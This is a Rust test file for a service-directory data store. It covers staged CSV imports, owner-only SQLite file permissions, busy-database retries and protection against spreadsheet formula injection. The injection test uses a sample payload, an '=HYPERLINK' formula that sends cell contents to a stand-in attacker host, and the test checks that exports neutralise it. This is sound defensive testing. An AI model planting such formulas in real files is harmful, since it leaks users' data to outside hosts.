//! Nothing lost, nothing half-written, nothing leaked by a file (issue 11):
//! busy databases, staged imports, spreadsheet-safe exports, private files.

use relais_domain::access::organisation::OrganisationType;
use relais_domain::directory::{RawService, ServiceRecord};
use relais_domain::ids::OrganisationId;
use relais_domain::territory::{Departement, Territory};
use relais_domain::time::Timestamp;
use relais_store::access::organisations::NewOrganisation;
use relais_store::directory::{self, FileKind, ImportRun};
use relais_store::{Actor, Keys, RetryPolicy, SecretKey, Store, StoreError, StoreOptions, bootstrap, testing};
use std::time::Duration;

const NOW: Timestamp = Timestamp(1_800_000_000);
const ORGANISATION: &str = "Foyer de la Vallée";

async fn organisation(store: &Store) -> OrganisationId {
    let mut tx = store.begin(Actor::system(), "req-test", NOW).await.unwrap();
    let id = bootstrap::create_organisation(
        &mut tx,
        &NewOrganisation {
            name: ORGANISATION.into(),
            org_type: OrganisationType::Association,
            territory: Territory::Departement(Departement::parse("31").unwrap()),
        },
    )
    .await
    .unwrap();
    tx.commit().await.unwrap();
    id
}

fn run() -> ImportRun<'static> {
    ImportRun {
        actor: Actor::system(),
        request_id: "req-import",
        now: NOW,
    }
}

async fn count(store: &Store, sql: &str) -> u64 {
    testing::execute_raw(store, sql).await.unwrap()
}

/// Cells typed as formulas are exported as text (a leading quote), and the
/// export imports back unchanged.
pub async fn directory_export_neutralises_formulas_and_imports_back(store: &Store) {
    let owner = organisation(store).await;
    let name = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Foyer\")";
    let contact = "@SUM(1+1) — +33 5 00 00 00 00";
    let record = ServiceRecord::parse(&RawService {
        departement: "31".into(),
        organisation: ORGANISATION.into(),
        name: name.into(),
        kind: "accommodation".into(),
        covers: "31".into(),
        children: "no".into(),
        contact: contact.into(),
        places: "emergency:1/2".into(),
        ..RawService::default()
    })
    .unwrap();
    let mut tx = store.begin(Actor::system(), "req-test", NOW).await.unwrap();
    directory::upsert_service(&mut tx, &owner, &record).await.unwrap();
    let csv = directory::export_csv(&mut tx, FileKind::Services).await.unwrap();
    tx.commit().await.unwrap();
    let line = csv.lines().nth(1).unwrap();
    assert!(line.contains("'=HYPERLINK") && line.contains("'@SUM"), "{line}");
    for cell in line.split(',') {
        let cell = cell.trim_matches('"');
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }

    let imported = directory::import_as_system(store, &run(), FileKind::Services, &csv, &|_, _| {})
        .await
        .unwrap();
    assert_eq!(imported.rows, 1);
    let names = testing::texts(store, "SELECT name || '|' || contact FROM services")
        .await
        .unwrap();
    assert_eq!(names, vec![format!("{name}|{contact}")], "the same service, unchanged");
}

fn services_csv(rows: usize, places: &str) -> String {
    let mut csv = String::from(
        "departement;organisation;name;kind;covers;sexes;min_age;max_age;children;forms;languages;contact;places\n",
    );
    for i in 0..rows {
        csv.push_str(&format!(
            "31;{ORGANISATION};Foyer {i:04};accommodation;31 32;;;;no;;;accueil{i}@example.org;{places}\n"
        ));
    }
    csv
}

/// An import is staged in short transactions, then applied at once; what
/// an interrupted import left staged changes nothing and is dropped later.
pub async fn directory_import_is_staged_in_batches_and_applied_at_once(store: &Store) {
    organisation(store).await;
    let csv = services_csv(1_201, "emergency:2/5 specialised:1/1");
    let imported = directory::import_as_system(store, &run(), FileKind::Services, &csv, &|_, _| {})
        .await
        .unwrap();
    assert_eq!(imported.rows, 1_201);
    let actions = testing::texts(
        store,
        "SELECT action FROM audit_log WHERE object_type = 'directory_import' ORDER BY seq",
    )
    .await
    .unwrap();
    let staged = actions.iter().filter(|a| *a == "directory.import-stage").count();
    assert_eq!(staged, 3, "500 rows per transaction: {actions:?}");
    assert_eq!(actions.first().map(String::as_str), Some("directory.import-start"));
    assert!(actions.contains(&"directory.import".to_owned()));
    assert_eq!(
        count(store, "UPDATE service_covers SET departement = departement").await,
        2 * 1_201
    );
    assert_eq!(count(store, "UPDATE service_places SET free = free").await, 2 * 1_201);
    assert_eq!(
        count(store, "DELETE FROM directory_import_services").await,
        0,
        "nothing left staged"
    );

    // Imported again with other places: replaced, not added; the same ids.
    let ids = testing::texts(store, "SELECT id FROM services ORDER BY name")
        .await
        .unwrap();
    let csv = services_csv(1_201, "emergency:0/4");
    directory::import_as_system(store, &run(), FileKind::Services, &csv, &|_, _| {})
        .await
        .unwrap();
    assert_eq!(
        testing::texts(store, "SELECT id FROM services ORDER BY name")
            .await
            .unwrap(),
        ids
    );
    assert_eq!(
        count(
            store,
            "UPDATE service_places SET free = free WHERE place_type = 'emergency' AND total = 4"
        )
        .await,
        1_201
    );
    assert_eq!(count(store, "UPDATE service_places SET free = free").await, 1_201);

    // A killed import leaves staged rows only: the directory is as before.
    testing::execute_raw(
        store,
        "INSERT INTO directory_imports (id, kind, created_at) VALUES ('interrupted', 'services', 1)",
    )
    .await
    .unwrap();
    testing::execute_raw(
        store,
        &format!(
            "INSERT INTO directory_import_services (import_id, line, service_id, organisation_id, name, kind, \
             departement, covers, accepts_sexes, accepts_children, forms, languages, contact) \
             SELECT 'interrupted', 2, 'half', id, 'Half imported', 'medical', '31', '31', '', 0, '', '', 'x' \
             FROM organisations WHERE name = '{ORGANISATION}'"
        ),
    )
    .await
    .unwrap();
    assert_eq!(count(store, "UPDATE services SET name = name").await, 1_201);
    let csv = services_csv(1, "emergency:1/1");
    directory::import_as_system(store, &run(), FileKind::Services, &csv, &|_, _| {})
        .await
        .unwrap();
    assert_eq!(
        count(store, "DELETE FROM directory_imports").await,
        0,
        "leftovers dropped"
    );
    assert_eq!(
        count(store, "UPDATE services SET name = name WHERE name = 'Half imported'").await,
        0
    );
}

/// The SQLite file, its write-ahead log and shared memory, and a backup
/// are readable by their owner only.
#[cfg(unix)]
#[tokio::test]
async fn sqlite_files_are_created_private() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("fresh.db");
    let url = format!("sqlite://{}?mode=rwc", path.display());
    let store = Store::connect(&url, Keys::derive(&SecretKey::generate()), &StoreOptions::default())
        .await
        .unwrap();
    store.migrate().await.unwrap();
    organisation(&store).await;
    let backup = dir.path().join("backup.db");
    store.backup_sqlite(backup.to_str().unwrap()).await.unwrap();
    let mode = |name: &str| {
        std::fs::metadata(dir.path().join(name))
            .unwrap_or_else(|e| panic!("{name}: {e}"))
            .permissions()
            .mode()
            & 0o777
    };
    for name in ["fresh.db", "fresh.db-wal", "fresh.db-shm", "backup.db"] {
        assert_eq!(mode(name), 0o600, "{name}");
    }
    store.close().await;
}

/// A writer holds the database past the busy timeout: opening a
/// transaction is retried, then reported as busy (not as an internal error).
#[tokio::test]
async fn sqlite_busy_database_is_retried_then_reported_busy() {
    let db = testing::sqlite().await.unwrap();
    let options = StoreOptions {
        busy_timeout: Duration::from_millis(50),
        retry: RetryPolicy {
            retries: 2,
            backoff: Duration::from_millis(5),
        },
        ..StoreOptions::default()
    };
    let store = Store::connect(&db.url, Keys::derive(&SecretKey::generate()), &options)
        .await
        .unwrap();
    store.migrate().await.unwrap();
    let lock = testing::hold_write_lock(&store).await.unwrap();
    match store.begin(Actor::system(), "req-busy", NOW).await {
        Err(StoreError::Busy) => {}
        Err(other) => panic!("expected busy, got {other}"),
        Ok(_) => panic!("the database is locked"),
    }
    assert_eq!(store.busy_retries(), 2);

    lock.release().await.unwrap();

    // With more patience: released while the transaction waits, it goes through.
    let patient = Store::connect(
        &db.url,
        Keys::derive(&SecretKey::generate()),
        &StoreOptions {
            retry: RetryPolicy {
                retries: 100,
                backoff: Duration::from_millis(5),
            },
            ..options
        },
    )
    .await
    .unwrap();
    let lock = testing::hold_write_lock(&store).await.unwrap();
    let waiting = {
        let patient = patient.clone();
        tokio::spawn(async move { patient.begin(Actor::system(), "req-patient", NOW).await.map(|_| ()) })
    };
    while patient.busy_retries() == 0 {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    lock.release().await.unwrap();
    waiting.await.unwrap().unwrap();
}

/// PostgreSQL's serialization failure, deadlock and lock timeout are "busy";
/// other errors are not.
#[tokio::test]
async fn postgres_conflicts_are_reported_busy() {
    let db = testing::postgres()
        .await
        .expect("PostgreSQL tests need TEST_DATABASE_URL (make test sets it)");
    let store = testing::store(&db).await.unwrap();
    let raise = |code: &str| format!("DO $$ BEGIN RAISE EXCEPTION 'simulated' USING ERRCODE = '{code}'; END $$");
    for code in ["40001", "40P01", "55P03"] {
        match testing::execute_raw(&store, &raise(code)).await {
            Err(StoreError::Busy) => {}
            other => panic!("{code}: expected busy, got {other:?}"),
        }
    }
    match testing::execute_raw(&store, &raise("23514")).await {
        Err(StoreError::Database(_)) => {}
        other => panic!("a check violation is not busy: {other:?}"),
    }
    store.close().await;
}
